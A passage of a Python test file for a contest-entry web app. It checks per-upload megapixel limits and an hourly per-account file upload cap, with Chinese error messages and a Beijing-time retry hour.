    assert response.context["form"].errors == {
        "new_photos": [
            "“四.jpg”未处理：一次上传的照片总尺寸不能超过 0 百万像素。请先保存，再分几次上传其余照片。"
        ]
    }
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), EntryPhoto.objects.count(), stored_files()) == (0, 0, [])


def test_entry_uploads_beyond_the_hourly_limit_are_refused_with_the_time_to_retry(
    team, team_client, contest, settings, time_machine
):
    settings.ENTRY_UPLOADS_PER_HOUR = 3
    entry = factories.EntryFactory(team=team, contest=contest)
    first = team_client.post(
        edit_url(entry), entry_post(version="1", new_photos=[photo("一.jpg"), photo("二.jpg")])
    )

    refused = team_client.post(
        edit_url(entry), entry_post(version="2", new_photos=[photo("三.jpg")], new_attachments=[pdf()])
    )

    # 16:30 UTC is 00:30 in Beijing: the hour's window ends at 01:00 Beijing time.
    assert first.status_code == 302
    assert refused.status_code == 200
    assert refused.context["form"].errors == {
        "new_photos": [
            "这个账号一小时内最多上传 3 个文件（照片和附件），本次的 2 个未处理。"
            "请在 01:00 之后再上传；已填写的文字不受影响，可以先保存。"
        ],
        "new_attachments": [
            "这个账号一小时内最多上传 3 个文件（照片和附件），本次的 2 个未处理。"
            "请在 01:00 之后再上传；已填写的文字不受影响，可以先保存。"
        ],
    }
    assert_typed_text_kept(refused)
    assert (entry.photos.count(), entry.attachments.count()) == (2, 0)

    time_machine.move_to(datetime(2026, 12, 31, 17, 0, 1, tzinfo=UTC))
    later = team_client.post(
        edit_url(entry), entry_post(version="2", new_photos=[photo("三.jpg")], new_attachments=[pdf()])
    )

    assert later.status_code == 302
    assert (entry.photos.count(), entry.attachments.count()) == (3, 1)


def test_entry_uploads_hourly_limit_is_per_account(team_client, other_team, contest, settings):
    settings.ENTRY_UPLOADS_PER_HOUR = 1
    team_client.post(create_url(contest), entry_post(new_photos=[photo("一.jpg")]))
    other_client = Client()
    other_client.force_login(other_team.user)

    response = other_client.post(create_url(contest), entry_post(new_photos=[photo("二.jpg")]))

    assert response.status_code == 302
    assert EntryPhoto.objects.count() == 2
